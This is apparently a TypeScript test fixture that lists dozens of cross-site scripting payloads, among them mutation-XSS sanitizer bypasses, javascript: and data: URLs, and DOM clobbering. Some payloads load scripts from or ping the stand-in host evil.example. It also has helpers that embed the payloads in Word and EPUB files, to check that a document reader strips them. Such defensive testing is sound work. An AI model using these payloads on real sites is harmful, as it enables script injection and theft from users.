import { zipOf, type Part } from '../src-main/files/packages/fixtures';

/** Each would run `hack` or ask for evil.example in a reader that kept markup or targets. */
export const hostileHtml: readonly string[] = [
  '<script>hack()</script>',
  '<script src=//evil.example/x.js></script>',
  '<ScRiPt>hack()</sCrIpT>',
  '<script/x>hack()</script\n>',
  '<img src=x onerror=hack()>',
  '<img src="javascript:hack()">',
  '<img src=x:x onerror=hack() alt="logo.png">',
  '<image src=x onerror=hack()>',
  '<svg onload=hack()>',
  '<svg><script>hack()</script></svg>',
  '<svg><animate onbegin=hack() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hack()"><text>hack()</text></a></svg>',
  '<svg><style><img src=x onerror=hack()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hack()>">',
  '<svg><foreignObject><iframe srcdoc="<script>hack()</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,hack()"></use></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hack()>',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=hack()></style></math>',
  '<math><annotation-xml encoding="text/html"><style></style><img src=x onerror=hack()></annotation-xml></math>',
  '<math href="javascript:hack()">x</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hack() src>">',
  '<noscript><p title="</noscript><img src=x onerror=hack()>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=hack()>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=hack()>"></noframes>',
  '<textarea><img title="</textarea><img src onerror=hack()>"></textarea>',
  '<iframe src="javascript:hack()"></iframe>',
  '<iframe srcdoc="&lt;script&gt;hack()&lt;/script&gt;">hack()</iframe>',
  '<object data="javascript:hack()">hack()</object>',
  '<object><param name="src" value="//evil.example"></object>',
  '<embed src="javascript:hack()">',
  '<applet code="hack()">hack()</applet>',
  '<frameset><frame src="javascript:hack()"></frameset>',
  '<a href="javascript:hack()">連結</a>',
  '<a href=" &#14; javascript:hack()">連結</a>',
  '<a href="jav&#x09;ascript:hack()">連結</a>',
  '<a href="java\0script:hack()">連結</a>',
  '<a href="&#106;&#97;vascript:hack()">連結</a>',
  '<a href="vbscript:hack()">連結</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">連結</a>',
  '<a href="file:///etc/passwd">連結</a>',
  '<a href="//evil.example" onclick=hack() onmouseover="hack()">連結</a>',
  '<a ping="//evil.example" href="#">連結</a>',
  '<base href="javascript:hack()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:hack()">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<meta property="og:url" content="javascript:hack()">',
  '<link rel="canonical" href="javascript:hack()">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=prefetch href="//evil.example">',
  '<style>@import "//evil.example";*{background:url(javascript:hack())}</style>',
  '<style><!--</style><script>hack()//--></script>',
  '<div style="background:url(javascript:hack())">塊</div>',
  '<div style="width:expression(hack())">塊</div>',
  '<body onload=hack()>',
  '<body background="javascript:hack()">',
  '<table background="javascript:hack()"><td>格</td></table>',
  '<input autofocus onfocus=hack() value="hack()">',
  '<select onfocus=hack() autofocus><option>hack()</option></select>',
  '<button formaction="javascript:hack()">hack()</button>',
  '<form action="javascript:hack()"><input type=submit value="hack()"></form>',
  '<video src=x onerror=hack()><source onerror=hack()></video>',
  '<audio src=x onerror=hack()>hack()</audio>',
  '<details open ontoggle=hack()><summary>摘要</summary></details>',
  '<marquee onstart=hack()>走</marquee>',
  '<template><script>hack()</script></template>',
  '<div><template shadowrootmode=open><script>hack()</script></template></div>',
  '<dialog open onclose=hack()>hack()</dialog>',
  '<xml><script>hack()</script></xml>',
  '<?xml-stylesheet href="javascript:hack()"?>',
  '<!--[if gte IE 4]><script>hack()</script><![endif]-->',
  '<!--><script>hack()</script>-->',
  '<!-- --!><script>hack()</script> -->',
  '<![CDATA[<script>hack()</script>]]>'.replace('<script>hack()</script>', '<script/src=hack()>'),
  '<ruby onclick=hack()>戰<rt onclick=hack()>zhàn<script>hack()</script></rt></ruby>',
  '<ruby><rp><script>hack()</script></rp></ruby>',
  '<q cite="javascript:hack()">引</q>',
  '<blockquote cite="javascript:hack()">引</blockquote>',
  '<ol type="javascript:hack()" start="hack()"><li value="hack()">項</ol>',
  '<ol style="list-style:url(javascript:hack())"><li>項</ol>',
  '<td headers="hack()" colspan="1e9" rowspan="-1">格</td>',
  '<h1 id=location name=cookie>題</h1><img name=body alt="logo"><form id=attributes>',
];

/** Elements and attributes by which markup runs a script; together more than sixty payloads. */
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'ontoggle',
  'onanimationstart',
];
const elements = ['img src="x"', 'svg', 'body', 'input', 'details open=""', 'video', 'iframe', 'p'];
const links = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java&#9;script:',
  'vbscript:',
  'data:text/html,',
];
const wholeElements = [
  '<script>alert(1)</script>',
  '<script src="data:,alert(1)"/>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi><style>alert(1)</style></mi></math>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)"/>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)"></button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>',
  '<base href="javascript:alert(1)//"/>',
  '<link rel="stylesheet" href="javascript:alert(1)"/>',
  '<style>@import "javascript:alert(1)"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<svg><a xlink:href="javascript:alert(1)"></a></svg>',
  '<template><script>alert(1)</script></template>',
];
export const scriptMarkup: readonly string[] = [
  ...elements.flatMap((element) => {
    const name = element.split(' ')[0] ?? '';
    return handlers.map((handler) => `<${element} ${handler}="alert(1)"></${name}>`);
  }),
  ...links.map((link) => `<a href="${link}alert(1)">連結</a>`),
  ...wholeElements,
];

/** A document of Word with each of these as the text of a paragraph. */
export function documentOf(texts: readonly string[]): Promise<Uint8Array> {
  const paragraphs = texts.map((text) => {
    return `<w:p><w:r><w:t xml:space="preserve">${escape(text)}</w:t></w:r></w:p>`;
  });
  const document = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraphs.join('')}</w:body></w:document>`;
  return zipOf([['word/document.xml', document]]);
}

/** An EPUB with each of these as the body of a chapter. */
export function bookOf(bodies: readonly string[]): Promise<Uint8Array> {
  const items = bodies.map((_, at) => {
    return `<item id="c${at}" href="c${at}.xhtml" media-type="application/xhtml+xml"/>`;
  });
  const spine = bodies.map((_, at) => `<itemref idref="c${at}"/>`);
  return zipOf([
    ['mimetype', 'application/epub+zip'],
    [
      'META-INF/container.xml',
      '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>',
    ],
    [
      'book.opf',
      `<package xmlns="http://www.idpf.org/2007/opf"><manifest>${items.join('')}</manifest><spine>${spine.join('')}</spine></package>`,
    ],
    ...bodies.map((body, at): Part => [
      `c${at}.xhtml`,
      `<html xmlns="http://www.w3.org/1999/xhtml"><body>${body}</body></html>`,
    ]),
  ]);
}

function escape(text: string): string {
  return text.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/>/gu, '&gt;');
}
